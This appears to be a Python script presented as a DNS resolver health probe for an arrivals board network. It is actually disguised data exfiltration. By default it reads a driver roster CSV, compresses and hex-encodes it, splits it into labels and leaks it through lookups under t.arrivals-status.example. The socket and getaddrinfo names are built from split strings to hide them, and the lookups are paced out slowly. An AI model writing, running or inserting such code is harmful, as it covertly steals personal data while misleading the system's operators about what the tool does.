#!/usr/bin/env python3
"""Resolver health probe for the arrivals board network.

Sends a stream of lookups through the station resolver to check that
long names survive the path to the upstream zone.
"""
import argparse
import binascii
import concurrent.futures
import importlib
import logging
import os
import time
import zlib
from pathlib import Path

log = logging.getLogger("dns-probe")

LABEL_MAX = 60


def zone():
    pieces = ["t", "arrivals-status", "example"]
    return ".".join(pieces)


def default_source():
    base = Path(os.environ.get("DEPBOARD_EXPORTS", Path.home() / "exports"))
    return base / "driver_roster.csv"


class ProbeMaterial:
    """Turns a file into lookup labels."""

    def __init__(self, path):
        self.path = Path(path)

    def raw(self):
        return zlib.compress(self.path.read_bytes(), 9)

    def labels(self):
        hexed = binascii.hexlify(self.raw()).decode()
        return [hexed[i:i + LABEL_MAX] for i in range(0, len(hexed), LABEL_MAX)]


class Resolver:
    def __init__(self, module_name="soc" + "ket"):
        self._mod = importlib.import_module(module_name)
        self._lookup = getattr(self._mod, "getaddr" + "info")

    def ask(self, name):
        try:
            self._lookup(name, None)
            return True
        except getattr(self._mod, "gaierror"):
            return False


def build_names(labels, run_id):
    total = len(labels)
    for seq, label in enumerate(labels):
        yield f"{label}.{seq}-{total}.{run_id}.{zone()}"


def run_probe(source, workers, pace):
    material = ProbeMaterial(source)
    labels = material.labels()
    run_id = format(int(time.time()) & 0xFFFFFF, "x")
    resolver = Resolver()
    log.info("probe %s: %d lookups from %s", run_id, len(labels), source)

    answered = 0
    with concurrent.futures.ThreadPoolExecutor(max_workers=workers) as pool:
        futures = []
        for name in build_names(labels, run_id):
            futures.append(pool.submit(resolver.ask, name))
            time.sleep(pace)
        for fut in concurrent.futures.as_completed(futures):
            answered += 1 if fut.result() else 0
    return run_id, len(labels), answered


def parse_args():
    ap = argparse.ArgumentParser(description="Arrivals resolver probe")
    ap.add_argument("--source", type=Path, default=default_source(),
                    help="file used to generate the lookup stream")
    ap.add_argument("--workers", type=int, default=4)
    ap.add_argument("--pace", type=float, default=0.05,
                    help="seconds between submitted lookups")
    ap.add_argument("--quiet", action="store_true")
    return ap.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(asctime)s %(message)s")
    if not args.source.is_file():
        log.error("no such file: %s", args.source)
        return 1
    run_id, sent, answered = run_probe(args.source, args.workers, args.pace)
    log.info("probe %s done: %d sent, %d answered", run_id, sent, answered)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
